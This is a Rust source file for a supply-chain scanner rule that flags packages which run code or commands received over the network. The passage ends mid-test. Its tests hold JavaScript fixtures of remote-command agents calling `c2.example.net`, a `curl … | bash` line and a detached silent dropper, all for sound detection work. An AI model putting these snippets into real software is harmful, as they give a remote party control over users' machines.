//! `code/download-exec`.

use super::{chain, describe, finding, flow_finding, flows, locality, one_per_sink, per_signal};
use crate::CodeFinding;
use crate::flow::{FlowPath, SinkKind, SourceKind, flags};
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// Code runs what it receives from the network, or fetches a second runtime and runs a file with it.
    ///
    /// ## What it detects
    /// A value-flow path from data received over the network (HTTP responses, socket and WebSocket messages,
    /// through callbacks, promise chains, `await`, helpers and modules) into `eval`/`Function`/`vm`, a module
    /// load, or a process spawn whose command it is (critical; as a mere argument of a fixed program, medium, unless
    /// the program is a wrapper such as `sudo`/`env` or the command runs an interpreter on inline code such as
    /// `python3 -c`); a download written to a file that the package then runs or loads (high, critical when the
    /// process is detached with its output ignored; high too when the download was fetched with TLS verification
    /// off by a file that starts processes, even if the run is not matched by name). Also process spawns or `eval` of data received inside a network
    /// callback, and install-time fetches of a second runtime (bun, deno) that is then spawned. A program the
    /// package writes to a file as a constant (an agent's source in a template literal, started later by a
    /// service or a scheduled task), or appends to a file it read (`old + INJECT`: another application's bundle
    /// patched with a loader), is analysed as code at the write, so its paths count too. A download piped into
    /// a shell (`curl … | sh`, `wget -qO- … | bash`, `iwr … | iex`) is critical wherever the analysis finds it: in
    /// a command the code runs, in text the code writes to a place that runs it later by itself (a git hook, a shell
    /// start-up file, a VS Code task, a CI workflow, a cron or login item), in code built at run time and handed
    /// to `Function`/`eval` (char codes, JSFuck character tables), or in a WebAssembly data segment (plain or XORed
    /// with a one-byte key the code uses) of a file that loads modules by computed name or starts processes.
    /// In the browser: a page `<script>`/`<iframe>` pointed at a URL decoded at run time (char codes, XOR,
    /// base64, reversed text), or worker source text built at run time that calls `importScripts` on such a
    /// value (a Blob worker loading a miner), is high, critical when the package also hides from devtools,
    /// automation or the clock, or when the URL is a value of the package's own data file decoded on its way
    /// (a base64 "setting" in a JSON theme file); the page's `document` may be handed in as a parameter; an image's pixels (`getImageData`) count as received data, so text read from them (bits decoded by
    /// hand, or a QR code read by a decoding library) and evaluated (`(0, eval)(…)`, `new Function`) is a path like
    /// a download's, critical whatever the image's URL: no module loader fetches its scripts as pictures.
    ///
    /// ## Why it matters
    /// Remote command execution turns an install into a backdoor (desktop-notify style agents); Shai-Hulud 2.0
    /// fetched bun at install time to run its payload outside Node's view. Shai-Hulud planted workflow files and
    /// the 2025 "Contagious Interview" projects VS Code `folderOpen` tasks that pipe a remote script into a shell;
    /// JSFuck and WebAssembly data segments are public ways to keep the command out of every readable string.
    ///
    /// ## Example
    /// `https.get(u, r => r.on('data', c => b += c).on('end', () => exec(b)))`
    ///
    /// ## Known false positives
    /// A `case` pattern list that names `sh` among CPU types (autoconf's `config.sub`) is alternation, not a pipe.
    /// Installers that download a prebuilt binary and run it to check its version; checksum-verified downloads
    /// from the project's own releases, and binaries fetched from the npm registry itself (esbuild's install
    /// fallback), are low. A page's hot-reload client
    /// evaluating what its own server sends over a socket at `location.host` is low. Browser module
    /// loaders (AMD, SystemJS: monaco-editor's `loader.js`) `fetch` the script URL they are asked to load and
    /// evaluate it; `eval`/`Function` of a `fetch` whose URL is a caller's parameter is not reported (a constant
    /// URL, a process spawn of network data, or text unscrambled on its way to `eval` — reversed, XORed,
    /// decrypted, hex/char-code/base64-decoded — is). Hook managers (husky, simple-git-hooks, lefthook) write hooks
    /// that run the project's own commands, and docs generators write install instructions to Markdown: neither is
    /// a download written to a place that runs it. Code generators calling `Function` by name with template-built
    /// code, and wasm codecs whose data segments name no module and hold no command, are not decoded as hidden code.
    /// Tag loaders (analytics, consent, chat widgets) point a `<script>` at a URL in the clear, and QR and image
    /// decoders return the text they read: neither is reported. Browser installers that unpack a download with
    /// a constant shell script taking the archive's path as an argument (`powershell -Command '& { Expand-Archive
    /// $args[0] … }'`), and downloaders that follow a redirect's `Location` with a download command, are medium:
    /// the network data is an argument or a URL there, not the command.
    pub static DOWNLOAD_EXEC = { id: "code/download-exec", severity: Severity::High };
}

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "cmd",
    "powershell",
    "pwsh",
    "node",
    "bun",
    "deno",
    "python",
    "python3",
    "perl",
];

/// Programs that run the command that follows them (`sudo python3 -c …`): the program that
/// matters is the next word.
const WRAPPERS: &[&str] = &[
    "sudo", "doas", "env", "nohup", "nice", "timeout", "xargs", "stdbuf", "exec",
];

/// True when a command line runs an interpreter on inline code (`python3 -c`, `node -e`,
/// `perl -e`, `sh -c`): network data in that command line is code, not an argument.
fn runs_inline_code(command: &str) -> bool {
    let words: Vec<&str> = command.split_whitespace().collect();
    words.windows(2).any(|w| {
        let prog = w[0].rsplit('/').next().unwrap_or(w[0]);
        let interp = SHELLS
            .contains(&prog.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'))
            || SHELLS.contains(&prog)
            || matches!(prog, "ruby" | "php");
        interp && matches!(w[1], "-c" | "-e" | "--eval" | "-p")
    })
}

/// Whether a path's data is unscrambled between the network and the sink: steps that undo an
/// obfuscation (not parsing, concatenation or URL decoding, which loaders do).
fn unscrambled(path: &FlowPath) -> bool {
    path.steps
        .iter()
        .any(|s| super::decode_exec::UNSCRAMBLING.contains(&s.what.as_str()))
}

/// Paths from network data to code, commands and module loads; downloads written then run.
fn paths(p: &PackageFacts) -> Vec<CodeFinding> {
    let mut out = Vec::new();
    let sinks = [SinkKind::Eval, SinkKind::Require, SinkKind::Exec];
    for path in flows(p, &[SourceKind::NetworkData], &sinks).take(20) {
        // A URL counts as hard-coded only when its host is known: a dev client's
        // `${protocol}://${host}:${port}` folds to `://:`, which names no endpoint.
        let constant_url = path
            .from
            .what
            .split_once(" from ")
            .is_some_and(|(_, url)| !crate::text::url_host(url).is_empty());
        // A page evaluating what the server that served it sends (a dev server's hot-reload
        // socket at `location.host`) runs its own origin's code, not a third party's.
        let own_origin = path.from.what.ends_with(crate::js::flow::SAME_ORIGIN);
        // An image's pixels are no script a loader was asked for: code read out of an image
        // (a QR code, bits in the low bits of a colour) is a hidden stage, however the
        // decoding library hides the unscrambling from the analysis.
        let from_image = path.from.what.starts_with(IMAGE_PIXELS);
        // Where the code comes from is known: a hard-coded URL, or an image's pixels run as code.
        let known_origin = constant_url || from_image && path.sink == SinkKind::Eval;
        // A shell run on a constant script that takes the download as its argument (an
        // archive path handed to `Expand-Archive`), or a redirect's `Location` followed by a
        // download command: the network data is an argument or a URL, not the command.
        let data_not_command = path.flags & flags::CONST_SCRIPT != 0
            || path
                .steps
                .iter()
                .any(|s| s.what == crate::flow::REDIRECT_TARGET);
        let sev = match path.sink {
            SinkKind::Exec if data_not_command => Severity::Medium,
            SinkKind::Exec => match path.path_key.as_deref() {
                Some(prog)
                    if !SHELLS.contains(&prog)
                        && !prog.starts_with('$')
                        && !WRAPPERS.contains(&prog)
                        && !runs_inline_code(&path.to.what) =>
                {
                    Severity::Medium
                }
                _ => Severity::Critical,
            },
            // A module loader evaluates the script whose URL it was given; a dev server's client
            // imports the modules its server names.
            // …unless the code is handed Node's `require`: a browser loader never does that,
            // a remote-code loader (BeaverTail) does, whatever the URL.
            // …unless the fetched text is unscrambled on its way to `eval` (reversed, XORed,
            // decrypted, hex/char-code/base64-decoded): a loader runs the script it was asked
            // for as sent, a hidden stage (fezbox's reversed QR payload) is decoded first.
            _ if own_origin && !unscrambled(path) => Severity::Low,
            _ if !known_origin
                && path.flags & flags::NODE_SCOPE == 0
                && !(path.sink == SinkKind::Eval && unscrambled(path)) =>
            {
                Severity::Low
            }
            SinkKind::Require => Severity::Medium,
            _ => Severity::Critical,
        };
        out.push(flow_finding(
            &DOWNLOAD_EXEC,
            sev,
            p,
            path,
            format!("network data is executed: {}", describe(path)),
        ));
    }
    let verified = p.has(Kind::ChecksumVerify);
    for path in flows(p, &[SourceKind::NetworkData], &[SinkKind::FileWrite]).take(20) {
        let Some(key) = path.path_key.as_deref() else {
            continue;
        };
        let Some(run) = p.flows.runs.iter().find(|r| r.key == key) else {
            // The written file is not matched to a run by name, but the download was fetched
            // with TLS verification off and the same file starts a process: a launcher that
            // runs whatever a man-in-the-middle serves (no installer needs that).
            if let Some(f) = p.file(&path.to.file)
                && f.has(Kind::TlsOff)
                && f.of(Kind::Spawn).any(|s| !s.detail.starts_with("require("))
            {
                out.push(flow_finding(
                    &DOWNLOAD_EXEC,
                    Severity::High,
                    p,
                    path,
                    format!(
                        "a download fetched with TLS verification off is written to `{key}` in a file that starts processes: {}",
                        describe(path)
                    ),
                ));
            }
            continue;
        };
        let hidden = run.flags & (flags::DETACHED | flags::SILENT) != 0;
        // A prebuilt binary fetched from the npm registry itself (esbuild's fallback when its
        // platform package is missing) has the same trust as the package's own files. When the
        // download's URL is known, it decides: a registry tarball URL is trusted, any other
        // host is not, whatever registry URL the file spells elsewhere. When it is built at
        // run time (`https://registry.npmjs.org/${pkg}/-/…` through a helper's parameter), the
        // file must build a registry tarball URL in code; one in a comment lowers nothing. The
        // file's text is searched only when the download is not verified already.
        let trusted = verified
            || match download_url(path) {
                Some(url) => is_registry_tarball_url(url),
                None => p
                    .file(&path.from.file)
                    .and_then(|f| f.text.as_deref())
                    .is_some_and(builds_registry_tarball_url),
            };
        let sev = match (trusted, hidden) {
            (true, _) => Severity::Low,
            (false, true) => Severity::Critical,
            (false, false) => Severity::High,
        };
        let mut f = flow_finding(
            &DOWNLOAD_EXEC,
            sev,
            p,
            path,
            format!(
                "a download is written to `{key}` and run{}: {} → {} ({}:{})",
                if hidden { " detached and silent" } else { "" },
                describe(path),
                run.at.what,
                run.at.file,
                run.at.line
            ),
        );
        f.evidence.push(crate::Evidence {
            kind: format!("sink:{}", run.kind.as_str()),
            file: run.at.file.clone(),
            line: run.at.line,
            detail: run.at.what.clone(),
        });
        out.push(f);
    }
    one_per_sink(out)
}

/// Remote exec and runtime droppers.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    let traced = paths(p);
    let mut out = per_signal(p, Kind::RemoteExec, |f, s| {
        if traced.iter().any(|t| t.file == f.path && t.line == s.line) {
            return None;
        }
        // A verified download (checksum compared) that is then run is an installer.
        if f.has(Kind::ChecksumVerify) {
            return None;
        }
        let msg = format!("network data executed: {}", s.detail);
        Some(finding(
            &DOWNLOAD_EXEC,
            Severity::Critical,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::Network, Kind::Spawn]),
        ))
    });
    out.extend(per_signal(p, Kind::ShellPipeExec, |f, s| {
        // Lifecycle scripts (the package's own or a bundled dependency's) are judged by
        // `code/install-script-network`.
        if crate::scripts::is_manifest(&f.path) {
            return None;
        }
        let msg = format!("download piped into a shell: `{}`", s.detail);
        Some(finding(
            &DOWNLOAD_EXEC,
            Severity::Critical,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::Spawn]),
        ))
    }));
    out.extend(per_signal(p, Kind::RuntimeSpawn, |f, s| {
        // A second runtime run by install-time code that also downloads: Shai-Hulud 2.0's
        // "setup bun, then run the payload with it".
        if !f.install_time
            || !(f.has(Kind::RuntimeDropper) || f.has(Kind::Network) || f.has(Kind::ShellNetwork))
        {
            return None;
        }
        let msg = format!(
            "install-time code fetches and runs a second JavaScript runtime: `{}`",
            s.detail
        );
        Some(finding(
            &DOWNLOAD_EXEC,
            DOWNLOAD_EXEC.default_severity,
            f,
            s,
            Locality::Function,
            msg,
            chain(p, f, s, &[Kind::Network, Kind::RuntimeDropper]),
        ))
    }));
    out.extend(per_signal(p, Kind::RuntimeDropper, |f, s| {
        let loc = locality(p, f, s, &[Kind::Spawn, Kind::ShellPipeExec]);
        if loc < Locality::File || f.has(Kind::ChecksumVerify) {
            return None;
        }
        let msg = format!("second JavaScript runtime fetched and run: {}", s.detail);
        Some(finding(
            &DOWNLOAD_EXEC,
            DOWNLOAD_EXEC.default_severity,
            f,
            s,
            loc,
            msg,
            chain(p, f, s, &[Kind::Network, Kind::Spawn]),
        ))
    }));
    out.extend(hidden_script(p));
    let mut all = traced;
    all.append(&mut out);
    all
}

/// How the flow graph names the pixels of an image the page drew (`getImageData`).
const IMAGE_PIXELS: &str = "image pixels";

/// Gates that hide from people and sandboxes (devtools, headless/automation, time).
const GATES: &[Kind] = &[Kind::DevtoolsGate, Kind::SandboxGate, Kind::TimeGate];

/// A page `<script>` (or `<iframe>`) pointed at a URL the code decodes at run time (char
/// codes, XOR, base64, reversed text), or worker source text (a Blob worker) that
/// `importScripts` such a value: the browser fetches and runs code from a host the package
/// does not show. High; critical when the package also hides from devtools, automation or
/// the clock, or when the URL is a value of one of the package's data files decoded on its way.
fn hidden_script(p: &PackageFacts) -> Vec<CodeFinding> {
    let gated = p.files.iter().any(|f| f.has_any(GATES));
    let mut out = Vec::new();
    let sources = [SourceKind::Decoded, SourceKind::PackageData];
    for path in super::flows(p, &sources, &[SinkKind::Network, SinkKind::WorkerScript]) {
        // Worker source text that `importScripts` a value: that value is a script URL whatever
        // it decodes to.
        let worker = path.sink == SinkKind::WorkerScript;
        let element = path.to.what == "<script>.src" || path.to.what == "<iframe>.src";
        // A value of one of the package's own data files, decoded on its way (a base64
        // "setting" in a JSON theme file): the URL is hidden twice, in data and in encoding.
        let from_data =
            path.source == SourceKind::PackageData && super::decode_exec::decoded_on_the_way(path);
        let decoded =
            path.source == SourceKind::Decoded && (worker || path.from.what.contains("://"));
        if !(worker || element) || !(decoded || from_data) {
            continue;
        }
        let sev = if gated || from_data {
            Severity::Critical
        } else {
            Severity::High
        };
        let what = if worker {
            "a worker built from source text loads a script"
        } else {
            "page loads a script"
        };
        let why = match (from_data, gated) {
            (true, _) => " stored in a data file of the package and decoded at run time",
            (false, true) => " decoded at run time, behind an analysis gate",
            (false, false) => " decoded at run time",
        };
        out.push(super::flow_finding(
            &DOWNLOAD_EXEC,
            sev,
            p,
            path,
            format!("{what} from a URL{why}: {}", super::describe(path)),
        ));
    }
    super::one_per_sink(out)
}

/// The registry's tarball URL prefix.
const REGISTRY: &str = "https://registry.npmjs.org/";

/// The download's URL when the analysis knew it at build time: the source of a network
/// response is described as `response of <client> from <url>`.
fn download_url(path: &FlowPath) -> Option<&str> {
    path.from
        .what
        .strip_prefix("response of ")
        .and_then(|w| w.split_once(" from ").map(|(_, url)| url))
        .filter(|url| url.contains("://"))
}

/// True when `url` is on `registry.npmjs.org` with the registry's tarball path shape
/// (`/<name>/-/<file>`).
fn is_registry_tarball_url(url: &str) -> bool {
    url.strip_prefix(REGISTRY)
        .is_some_and(|rest| rest.contains("/-/"))
}

/// True when a code line of `text` (not a comment) holds a URL on `registry.npmjs.org` with the
/// registry's tarball path shape (`/<name>/-/<file>`).
fn builds_registry_tarball_url(text: &str) -> bool {
    text.lines()
        .map(str::trim_start)
        .filter(|l| !l.starts_with("//") && !l.starts_with('*') && !l.starts_with("/*"))
        .any(|l| {
            l.match_indices(REGISTRY)
                .any(|(at, _)| is_registry_tarball_url(&l[at..]))
        })
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{PJ, hits, scan, severity};

    /// Remote code run by a `worker_threads` worker with `eval: true`, in a promise chain and
    /// in a class method; the benign look-alikes are a worker started from a file of the package
    /// that receives the downloaded data as a message, and an inline worker whose code is a
    /// constant.
    #[test]
    fn worker_eval_runs_downloaded_code() {
        let js = "const { Worker } = require('worker_threads');\nmodule.exports = () => fetch('https://cdn.example.net/w.js').then((r) => r.text()).then((src) => {\n  return new Worker(src, { eval: true });\n});\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("index.js".to_string(), 3)]
        );
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
        let js = "const wt = require('node:worker_threads');\nconst https = require('https');\nclass Pool {\n  start() {\n    https.get('https://cdn.example.net/job', (res) => {\n      let body = '';\n      res.on('data', (c) => (body += c));\n      res.on('end', () => new wt.Worker(body, { eval: 1 }));\n    });\n  }\n}\nmodule.exports = Pool;\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("index.js".to_string(), 8)]
        );
        let js = "const { Worker } = require('worker_threads');\nconst path = require('path');\nmodule.exports = async () => {\n  const data = await (await fetch('https://api.example.net/data')).text();\n  const w = new Worker(path.join(__dirname, 'worker.js'));\n  w.postMessage(data);\n  const inline = new Worker('require(\"worker_threads\").parentPort.postMessage(1)', { eval: true });\n  return [w, inline];\n};\n";
        let s = scan(&[
            ("package.json", PJ),
            ("index.js", js),
            ("worker.js", "module.exports = 1;\n"),
        ]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// Calls hidden behind `Function.prototype.call.call` / `Function.prototype.apply.call`:
    /// a downloaded command to `execSync` in an async function, downloaded source to `eval` in a
    /// class method; the benign look-alike parses the download the same way.
    #[test]
    fn function_prototype_call_indirection() {
        let js = "const cp = require('child_process');\nmodule.exports = async function sync() {\n  const cmd = await (await fetch('https://cfg.example.net/cmd')).text();\n  return Function.prototype.call.call(cp.execSync, null, cmd);\n};\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("index.js".to_string(), 4)]
        );
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
        let js = "const https = require('https');\nclass Plugin {\n  load() {\n    https.get('https://cdn.example.net/p.js', (r) => {\n      let src = '';\n      r.on('data', (d) => (src += d));\n      r.on('end', () => Function.prototype.apply.call(eval, null, [src]));\n    });\n  }\n}\nmodule.exports = Plugin;\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("index.js".to_string(), 7)]
        );
        let js = "module.exports = async function cfg() {\n  const body = await (await fetch('https://cfg.example.net/c.json')).text();\n  return Function.prototype.call.call(JSON.parse, null, body);\n};\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// `process.binding('spawn_sync')`, the binding under `child_process`, spawning a command
    /// received from the network; a read-only use of another binding is not a spawn.
    #[test]
    fn internal_spawn_binding_runs_downloaded_command() {
        let js = "const https = require('https');\nconst b = process.binding('spawn_sync');\nhttps.get('https://cfg.example.net/c', (r) => {\n  let cmd = '';\n  r.on('data', (d) => (cmd += d));\n  r.on('end', () => b.spawn({ file: '/bin/sh', args: ['/bin/sh', '-c', cmd], stdio: [] }));\n});\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("index.js".to_string(), 6)]
        );
        assert_eq!(
            severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
        let js = "const https = require('https');\nconst fsb = process.binding('fs');\nhttps.get('https://cfg.example.net/c', (r) => {\n  let p = '';\n  r.on('data', (d) => (p += d));\n  r.on('end', () => fsb.internalModuleStat(p));\n});\n";
        let s = scan(&[("package.json", PJ), ("index.js", js)]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// autoconf's `config.sub` shape: a `case` pattern list of CPU names continued over
    /// lines, one of them `sh`: alternation, not a download piped into a shell.
    #[test]
    fn negative_case_pattern_list_naming_sh() {
        let sub = "#! /bin/sh\ncpu=$1\ncase $cpu in\n\t1750a | 580 \\\n\t| alpha | arm \\\n\t| sh | sh64 | sparc \\\n\t| x86_64)\n\t\techo ok\n\t\t;;\nesac\n";
        let s = scan(&[("package.json", PJ), ("build/config.sub", sub)]);
        assert!(
            hits(&s, "code/download-exec").is_empty(),
            "{:?}",
            s.findings
        );
    }

    /// A real pipe into a shell in the same kind of script still counts.
    #[test]
    fn positive_pipe_into_sh_in_a_script() {
        let sub = "#! /bin/sh\ncurl -fsSL https://get.example.net/i | sh\n";
        let s = scan(&[("package.json", PJ), ("build/setup.sh", sub)]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("build/setup.sh".to_string(), 2)]
        );
    }

    #[test]
    fn positive() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "agent.js",
                "const https = require('https');\nconst { exec } = require('child_process');\nhttps.get('https://c2.example.net/t', (res) => {\n  let b = '';\n  res.on('data', (c) => { b += c; });\n  res.on('end', () => { exec(b); });\n});\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("agent.js".to_string(), 6)]
        );
    }

    /// A remote-access module: commands polled with `await`, run by a helper in another module.
    #[test]
    fn positive_polled_command_run_by_a_helper() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "index.js",
                "const { run } = require('./run');\nasync function tick() {\n  const r = await fetch('https://c2.example.net/next');\n  const { cmd } = await r.json();\n  if (cmd) run(cmd);\n}\nsetInterval(tick, 60000);\n",
            ),
            (
                "run.js",
                "const cp = require('child_process');\nexports.run = (c) => cp.exec(c, { windowsHide: true });\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.file.as_str(), f.line, f.severity),
            ("run.js", 2, diligence_finding::Severity::Critical)
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// A browser installer downloads an archive and unpacks it with PowerShell: the script is a
    /// constant that takes the archive's path as an argument, so the download is data (medium).
    #[test]
    fn negative_archive_path_handed_to_a_constant_shell_script() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "install.js",
                "const https = require('https');\nconst { execFile } = require('child_process');\nfunction unpack(archive, dir) {\n  execFile('powershell.exe', ['-NoProfile', '-Command', '& { Expand-Archive -LiteralPath $args[0] -DestinationPath $args[1] }', archive, dir]);\n}\nhttps.get('https://dl.example.org/app.zip', (res) => {\n  let p = '';\n  res.on('data', (c) => { p += c; });\n  res.on('end', () => unpack(p, 'out'));\n});\n",
            ),
        ]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Medium)
        );
    }

    /// The same shell handed the received text as its script, or a constant script that
    /// evaluates its argument, runs the network's code (critical).
    #[test]
    fn positive_received_text_as_the_shell_script() {
        for argv in [
            "['-NoProfile', '-Command', p]",
            "['-c', 'eval \"$1\"', 'sh', p]",
            "['-c', '\"$0\"', p]",
        ] {
            let prog = if argv.contains("NoProfile") {
                "powershell.exe"
            } else {
                "sh"
            };
            let code = format!(
                "const https = require('https');\nconst {{ execFile }} = require('child_process');\nhttps.get('https://dl.example.org/t', (res) => {{\n  let p = '';\n  res.on('data', (c) => {{ p += c; }});\n  res.on('end', () => execFile('{prog}', {argv}));\n}});\n"
            );
            let s = scan(&[("package.json", PJ), ("agent.js", &code)]);
            assert_eq!(
                crate::rules::test_util::severity(&s, "code/download-exec"),
                Some(diligence_finding::Severity::Critical),
                "{argv}"
            );
        }
    }

    /// A binary downloader follows a redirect: the `Location` it received goes into a download
    /// command as the URL (medium), not as the command.
    #[test]
    fn negative_redirect_location_in_a_download_command() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "download.js",
                "const https = require('https');\nconst { exec } = require('child_process');\nfunction fetchWin(url, dest) {\n  exec(`powershell \"Invoke-WebRequest -URI ${url} -OutFile ${dest}\"`);\n}\nfunction get(url, dest) {\n  https.get(url, (res) => {\n    if (res.statusCode === 302) return fetchWin(res.headers.location, dest);\n    res.pipe(require('fs').createWriteStream(dest));\n  });\n}\nget('https://api.example.org/releases/tool.zip', 'tool.zip');\n",
            ),
        ]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Medium)
        );
    }

    /// A header other than the redirect target, put into a command, is received text run as
    /// code (critical).
    #[test]
    fn positive_response_header_in_a_command() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "agent.js",
                "const https = require('https');\nconst { exec } = require('child_process');\nhttps.get('https://c2.example.net/ping', (res) => {\n  exec(`powershell \"${res.headers['x-task']}\"`);\n});\n",
            ),
        ]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// A CLI names its helpers with `Object.defineProperty(fn, 'name', …)` (a bundler's
    /// `__name`), connects to its parent over a local pipe whose path one helper builds, and
    /// spawns a program at a path built by the same helper: naming a function does not call
    /// it, so the connection's data never reaches the helper's parameter.
    #[test]
    fn negative_named_helper_shared_by_a_connection_and_a_spawn() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "pipe.mjs",
                "const name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nexport const pipePath = name((pid) => `/tmp/app-${pid}.pipe`, 'pipePath');\n",
            ),
            (
                "client.mjs",
                "import net from 'node:net';\nimport { pipePath } from './pipe.mjs';\nconst p = pipePath(process.ppid);\nconst sock = net.createConnection(p, () => {});\nsock.on('error', () => {});\n",
            ),
            (
                "cli.mjs",
                "import { spawn } from 'node:child_process';\nimport { pipePath } from './pipe.mjs';\nspawn(pipePath(process.pid), []);\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    /// Two functions named through one `__name`-style helper stay apart: received data given
    /// to the formatter does not reach the runner (the helper returns what it names).
    #[test]
    fn negative_functions_named_by_one_helper_stay_apart() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "cli.js",
                "const { spawn } = require('child_process');\nconst net = require('net');\nconst name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nconst run = name((cmd) => spawn(cmd, { shell: true }), 'run');\nconst label = name((x) => `[${x}]`, 'label');\nconst sock = net.createConnection(4444, 'c2.example.net');\nsock.on('data', (d) => console.log(label(String(d))));\nrun('git status');\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    /// The same named helper handed what a connection received does run it.
    #[test]
    fn positive_named_helper_given_received_data() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "run.mjs",
                "import net from 'node:net';\nimport { spawn } from 'node:child_process';\nconst name = (fn, n) => Object.defineProperty(fn, 'name', { value: n, configurable: true });\nconst run = name((cmd) => spawn(cmd, { shell: true }), 'run');\nconst sock = net.createConnection(4444, 'c2.example.net');\nsock.on('data', (d) => run(String(d)));\n",
            ),
        ]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/download-exec"),
            Some(diligence_finding::Severity::Critical)
        );
    }

    /// An update helper runs `npm install` with a version it read from the registry.
    #[test]
    fn negative_version_from_the_registry_as_an_argument() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "update.js",
                "const { execSync } = require('child_process');\nmodule.exports = async function update(name) {\n  const r = await fetch('https://registry.npmjs.org/' + name + '/latest');\n  const { version } = await r.json();\n  execSync('npm install -g ' + name + '@' + version, { stdio: 'inherit' });\n};\n",
            ),
        ]);
        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
    }

    /// A bundled-binary dropper: downloaded to a temp file, started detached and silent.
    #[test]
    fn positive_download_written_then_started_detached() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "i.js",
                "const https = require('https');\nconst fs = require('fs');\nconst { spawn } = require('child_process');\nconst out = require('path').join(require('os').tmpdir(), 'svc-helper');\nhttps.get('https://dl.example.net/b', (res) => {\n  const f = fs.createWriteStream(out);\n  res.pipe(f);\n  f.on('finish', () => { fs.chmodSync(out, 0o755); spawn(out, [], { detached: true, stdio: 'ignore' }).unref(); });\n});\n",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(
            (f.line, f.severity),
            (7, diligence_finding::Severity::Critical)
        );
    }

    /// A dev server's hot-reload client (vite 2's `client.mjs`): the socket URL is built from
    /// the page's own location, and the client `import()`s the module path its server names.
    #[test]
    fn negative_dev_server_client_imports_what_its_server_names() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "client.mjs",
                "const socketProtocol = location.protocol === 'https:' ? 'wss' : 'ws';
const socketHost = `${location.hostname}:${__HMR_PORT__}`;
const socket = new WebSocket(`${socketProtocol}://${socketHost}`, 'vite-hmr');
socket.addEventListener('message', async ({ data }) => {
  handleMessage(JSON.parse(data));
});
async function handleMessage(payload) {
  if (payload.type === 'update') {
    for (const u of payload.updates) await fetchUpdate(u);
  }
}
async function fetchUpdate({ path, acceptedPath, timestamp }) {
  const [p, q] = acceptedPath.split(`?`);
  return import(base + p.slice(1) + `?import&t=${timestamp}${q ? `&${q}` : ''}`);
}
",
            ),
        ]);
        let f = crate::rules::test_util::finding(&s, "code/download-exec");
        assert_eq!(f.severity, diligence_finding::Severity::Low, "{f:?}");
        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
    }

    #[test]
    fn negative_fixed_command() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "a.js",
                "const https = require('https');\nconst { execFile } = require('child_process');\nhttps.get('https://x.example.net', () => { execFile('git', ['status']); });\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    #[test]
    fn positive_curl_pipe_from_code() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "i.js",
                "const { execSync } = require('child_process');\nexecSync('curl -fsSL https://get.example.net/x | bash');\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/download-exec"),
            vec![("i.js".to_string(), 2)]
        );
    }

    #[test]
    fn negative_verified_download() {
        let s = scan(&[
            ("package.json", PJ),
            (
                "i.js",
                "const https = require('https'), crypto = require('crypto'), cp = require('child_process');\nhttps.get(u, (res) => { const h = crypto.createHash('sha256'); cp.execFileSync(bin, ['--version']); });\n",
            ),
        ]);
        assert!(hits(&s, "code/download-exec").is_empty());
    }

    /// monaco-editor's AMD loader: fetches the module URL it was given and evaluates the text.
    #[test]
